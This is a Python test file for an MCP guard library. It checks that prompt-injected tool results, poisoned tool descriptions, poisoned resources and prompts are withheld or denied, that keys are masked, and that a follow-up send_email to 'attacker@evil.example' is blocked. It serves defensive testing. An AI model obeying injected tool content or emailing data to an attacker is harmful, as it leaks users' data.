from __future__ import annotations

import sys
import unittest
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from mcp import ClientSession, StdioServerParameters, stdio_client
from story import KEY, ORDER, SHOP

from aos_guardian import AsyncGuardian, Denied, Guardian
from aos_guardian.mcp import guard_session

SERVER = StdioServerParameters(command=sys.executable, args=[str(Path(__file__).with_name("mcp_shop.py"))])


@asynccontextmanager
async def session(guardian: Guardian | AsyncGuardian) -> AsyncIterator[ClientSession]:
    async with stdio_client(SERVER) as (read, write), ClientSession(read, write) as connected:
        guard_session(connected, guardian)
        await connected.initialize()
        yield connected


def text(result: Any) -> str:
    return str(result.content[0].text)


class McpClient(unittest.IsolatedAsyncioTestCase):
    async def test_an_honest_result_is_left_alone(self) -> None:
        async with session(Guardian()) as shop:
            self.assertEqual(
                "Widget 3000: 49 EUR, ships in two days.", text(await shop.call_tool("fetch", {"url": f"{SHOP}/widget"}))
            )

    async def test_an_injected_result_is_withheld_and_its_order_stopped(self) -> None:
        async with session(AsyncGuardian()) as shop:
            result = await shop.call_tool("fetch", {"url": f"{SHOP}/poisoned"})
            self.assertIn("[guardian] ", text(result))
            self.assertNotIn(ORDER, result.model_dump_json())
            self.assertIn('"isError":true', result.model_dump_json(by_alias=True))
            sent = await shop.call_tool("send_email", {"to": "attacker@evil.example"})
            self.assertIn("[guardian] ", text(sent))

    async def test_keys_are_masked_in_text_and_structure(self) -> None:
        async with session(Guardian()) as shop:
            result = await shop.call_tool("fetch", {"url": f"{SHOP}/key"})
            self.assertNotIn(KEY, result.model_dump_json())
            self.assertIn("49 EUR", text(result))

    async def test_a_tool_with_a_poisoned_description_is_not_listed(self) -> None:
        async with session(Guardian()) as shop:
            self.assertEqual(["fetch"], [tool.name for tool in (await shop.list_tools()).tools])

    async def test_a_poisoned_resource_or_prompt_is_denied(self) -> None:
        async with session(Guardian()) as shop:
            resource: Any = f"{SHOP}/notes"
            with self.assertRaises(Denied):
                await shop.read_resource(resource)
            with self.assertRaises(Denied):
                await shop.get_prompt("greet", {"name": "mallory"})
            self.assertIn("Say hello to Ann.", (await shop.get_prompt("greet", {"name": "Ann"})).model_dump_json())

    async def test_without_an_answer_the_posture_counts(self) -> None:
        async with session(Guardian("http://127.0.0.1:9", retries=0)) as shop:
            self.assertIn("[guardian] ", text(await shop.call_tool("fetch", {"url": f"{SHOP}/widget"})))
        async with session(Guardian("http://127.0.0.1:9", retries=0, on_failure="allow")) as shop:
            self.assertIn("49 EUR", text(await shop.call_tool("fetch", {"url": f"{SHOP}/widget"})))


if __name__ == "__main__":
    unittest.main()
